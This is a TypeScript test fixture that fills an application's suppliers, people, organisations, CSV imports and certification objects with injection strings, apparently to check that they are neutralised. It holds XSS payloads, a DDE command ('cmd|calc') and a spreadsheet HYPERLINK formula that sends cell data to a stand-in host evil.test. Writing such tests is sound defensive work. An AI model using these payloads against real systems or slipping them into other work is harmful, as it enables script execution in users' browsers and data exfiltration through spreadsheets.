import type { House } from './house.fixture.ts'

/** What people type where a name is asked for: a formula and a piece of a page. */
export const FORMULA = '=HYPERLINK("http://evil.test?x="&A1,"Открыть")'
export const PAGE = '<img src=x onerror=alert(1)>'
export const POISONS = [FORMULA, '+1+cmd|calc!A0', '-2+3', '@SUM(1;2)', '\t=1', PAGE, '"><script>alert(1)</script>']

const cell = (text: string) => `"${text.replaceAll('"', '""')}"`
const csv = (...rows: readonly (readonly string[])[]) => rows.map((row) => row.map(cell).join(';')).join('\n')

/** Fills every place of the installation where texts are kept with them, through the doors that people use. */
export async function poison(server: House): Promise<void> {
  const json = async (method: 'POST' | 'PUT', url: string, payload: object) => {
    const answer = await server.admin({ method, url, payload })
    if (answer.statusCode >= 300) throw new Error(`${method} ${url} → ${answer.statusCode} ${answer.body}`)
    return answer.json<Record<string, unknown>>()
  }
  for (const [n, name] of POISONS.entries()) {
    await json('PUT', `/api/suppliers/evil${n}`, { name })
    await json('POST', `/api/suppliers/evil${n}/tokens`, { label: name })
    await json('POST', '/api/people', { name, mail: null, organisation: 1, role: 'working_group' })
    await json('POST', '/api/organisations', { ...BARE, name, shortName: name, address: name, phone: name })
  }
  await send(
    server,
    'services',
    csv(['service_id', 'name', 'authority'], ...POISONS.map((name, n) => [`10${n}`, name, name])),
  )
  await send(server, 'requests', csv(REQUESTS, ...POISONS.map((text, n) => [text, `10${n}`, 'ЕПГУ', '31', text, text])))
  await send(server, 'ratings', csv(RATINGS, ...POISONS.map((text) => [text, '02.06.2026 10:00:00', '1', text])))
  const wide = ['request_id', 'service_id', 'submission_channel', 'region', 'office', 'ЕПГУ.11']
  const office = (text: string, n: number) => [`${text}${n}`, `10${n}`, 'ЕПГУ', '31', text, '01.06.2026 10:00:00']
  await send(server, 'wide', csv(wide, ...POISONS.map(office)))
  await server.installation.imports.run()
  for (const name of POISONS) await json('POST', '/api/certification/objects', { ...OBJECT, name })
  await json('POST', '/api/certification/lists/single', {})
}

const BARE = {
  parent: 1,
  kind: 'ministry',
  region: null,
  zone: null,
  ogrn: null,
  mail: null,
  authority: null,
  office: null,
}
const OBJECT = {
  kind: 'appeals',
  authority: null,
  region: null,
  service: null,
  address: 'https://evil.test/?q=%3Cscript%3E',
  level: null,
  validFrom: null,
  validTo: null,
}
const REQUESTS = ['request_id', 'service_id', 'submission_channel', 'region', 'office', 'consultation_topic']
const RATINGS = ['request_id', 'rated_at', 'score', 'review']

async function send(server: House, kind: string, payload: string): Promise<void> {
  const query = new URLSearchParams({ supplier: 'evil0', date: '2026-06-30', name: `${PAGE}${FORMULA}${kind}.csv` })
  const headers = { 'content-type': 'text/csv' }
  const answer = await server.admin({ method: 'POST', url: `/api/packages?${query}`, payload, headers })
  if (answer.statusCode !== 202) throw new Error(`${kind} → ${answer.statusCode} ${answer.body}`)
}
